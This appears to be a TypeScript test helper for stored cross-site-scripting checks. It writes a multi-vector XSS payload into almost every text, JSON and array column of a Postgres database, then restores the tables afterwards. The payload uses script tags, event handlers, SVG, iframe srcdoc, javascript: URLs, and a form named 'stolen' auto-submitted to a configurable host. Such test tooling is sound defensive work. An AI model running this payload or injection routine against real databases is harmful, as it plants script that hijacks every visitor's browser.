import type pg from "pg";

/** Tables left unchanged, because requests depend on them: sign-ins, rate limits, epochs, visits and migrations. */
const MACHINERY =
  /^(?:_prisma_migrations|sessions|sign_in_addresses|account_links|known_devices|passkey_challenges|rate_limits|epochs|visit_salts|page_views|visitors)$/;
/**
 * Columns left unchanged: those needed to sign in and to find an administrator by name, and those of the append-only
 * audit trail (an entry with the payload is added).
 */
const KEPT = /^users\.(?:email|password_hash)$|^administrator_aliases\.key$|^audit_entries\./;
const CHECK_VIOLATION = "23514";

export function payloadOf(host: string): string {
  return [
    `Texto"'></title></textarea></style>`,
    `<script>window.ran="script";fetch("${host}/script")</script>`,
    `<style>:root{--ran:1}@import "${host}/style";</style><link rel=stylesheet href="${host}/link">`,
    `<img src=x onerror="window.ran='onerror'"><img src="${host}/img">`,
    `<svg onload="window.ran='svg'"><script>window.ran="svg script"</script><animate onbegin="window.ran='animate'" attributeName=x dur=1s /><foreignObject><body onload="window.ran='body'"></foreignObject></svg>`,
    `<iframe srcdoc="<script>parent.ran='srcdoc'</script>"></iframe><iframe src="javascript:parent.ran='frame'"></iframe><object data="${host}/object"></object><embed src="${host}/embed">`,
    `<form action="${host}/form" id=stolen><input name=a autofocus onfocus="window.ran='onfocus';this.form.submit()"></form><script>stolen.submit()</script>`,
    `<a href="javascript:window.ran='href'">link</a><details open ontoggle="window.ran='ontoggle'"></details>`,
    `<base href="${host}/base/"><meta http-equiv="refresh" content="0;url=${host}/refresh">`,
  ].join("");
}

const SVG = `<svg onload="window.ran='icon'"><script>window.ran="icon script"</script><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject><animate attributeName="href" values="javascript:window.ran=1" /></svg>`;

type Column = { table: string; column: string; type: string };

/**
 * Writes the payload into the text and JSON columns of the schema, except those left unchanged.
 * @returns the number of columns, and the columns that could not be written although no CHECK constraint forbids it
 */
export async function poison(client: pg.Client, payload: string) {
  const columns = await listColumns(client);
  await client.query(
    "INSERT INTO audit_entries (user_name, action, entity, fields) VALUES ($1, $1, $1, ARRAY[$1])",
    [payload],
  );
  const refused: string[] = [];
  for (const target of columns) {
    const done = await (target.type === "jsonb"
      ? poisonJson(client, target, payload)
      : poisonText(client, target, payload));
    if (!done) refused.push(`${target.table}.${target.column}`);
  }
  return { columns: columns.length, refused };
}

async function listColumns(client: pg.Client): Promise<Column[]> {
  const { rows } = await client.query<Column>(
    `SELECT table_name AS table, quote_ident(column_name) AS column, data_type AS type FROM information_schema.columns
     JOIN information_schema.tables USING (table_schema, table_name)
     WHERE table_schema = 'public' AND table_type = 'BASE TABLE'
       AND data_type IN ('text', 'character varying', 'json', 'jsonb', 'ARRAY')
       -- Arrays of numbers hold no text.
       AND udt_name NOT IN ('_int4', '_int8') ORDER BY 1, 2`,
  );
  return rows.filter(({ table, column }) => !MACHINERY.test(table) && !KEPT.test(`${table}.${column}`));
}

/**
 * Writes the payload into a column. Tries variants until one is accepted: unchanged, unique, lower-case, then the same
 * only where the column is not NULL. One post keeps its slug.
 */
async function poisonText(client: pg.Client, { table, column, type }: Column, payload: string) {
  const where = column === "slug" ? `WHERE id > (SELECT min(id) FROM ${table})` : "";
  const forms = ["$1::text", "$1::text || ctid::text", "lower($1) || ctid::text"];
  const values = type === "ARRAY" ? ["ARRAY[$1::text]"] : forms;
  const attempts = [where, `WHERE ${column} IS NOT NULL`].flatMap((rows) =>
    values.map((value) => ({ text: `UPDATE ${table} SET ${column} = ${value} ${rows}`, payload })),
  );
  // Only a valid URL is shown, so columns of URLs get one that runs a script.
  const isAddress = /link|url|facebook|instagram|linkedin|youtube/.test(column);
  const [plain] = attempts;
  if (isAddress && plain) attempts.unshift({ ...plain, payload: "javascript:window.ran='address'" });
  return await anyOf(client, attempts);
}

async function poisonJson(client: pg.Client, { table, column }: Column, payload: string) {
  const { rows } = await client.query(`SELECT ctid::text AS row, ${column} AS value FROM ${table}`);
  for (const { row, value } of rows) {
    const text = `UPDATE ${table} SET ${column} = $1 WHERE ctid = '${row}'::tid`;
    if (!(await anyOf(client, [{ text, payload: JSON.stringify(poisoned(value, payload)) }]))) return false;
  }
  return true;
}

async function anyOf(client: pg.Client, attempts: { text: string; payload: string }[]): Promise<boolean> {
  let code: string | undefined;
  for (const { text, payload } of attempts) {
    code = await client.query(text, [payload]).then(
      () => undefined,
      (error: pg.DatabaseError) => error.code,
    );
    if (code === undefined) return true;
  }
  return code === CHECK_VIOLATION;
}

function poisoned(value: unknown, payload: string, key = ""): unknown {
  if (Array.isArray(value)) return value.map((item) => poisoned(item, payload));
  if (typeof value === "string" || value === null) return key === "icon_svg" ? SVG : payload;
  if (typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, item]) => [name, poisoned(item, payload, name)]),
  );
}

export async function saveTables(client: pg.Client): Promise<() => Promise<void>> {
  const { rows } = await client.query<{ name: string }>(
    "SELECT format('%I', tablename) AS name FROM pg_tables WHERE schemaname = 'public'",
  );
  const names = rows.map(({ name }) => name).filter((name) => !MACHINERY.test(name));
  await client.query("DROP SCHEMA IF EXISTS saved CASCADE; CREATE SCHEMA saved");
  for (const name of names) await client.query(`CREATE TABLE saved.${name} AS TABLE public.${name}`);
  return async () => {
    const back = names.map((name) => `DELETE FROM ${name}; INSERT INTO ${name} SELECT * FROM saved.${name}`);
    await client.query(
      `BEGIN; SET LOCAL session_replication_role = replica; ${back.join("; ")}; UPDATE epochs SET value = value + 1; COMMIT;
       DROP SCHEMA saved CASCADE; SELECT pg_notify('epochs', area) FROM epochs`,
    );
  };
}
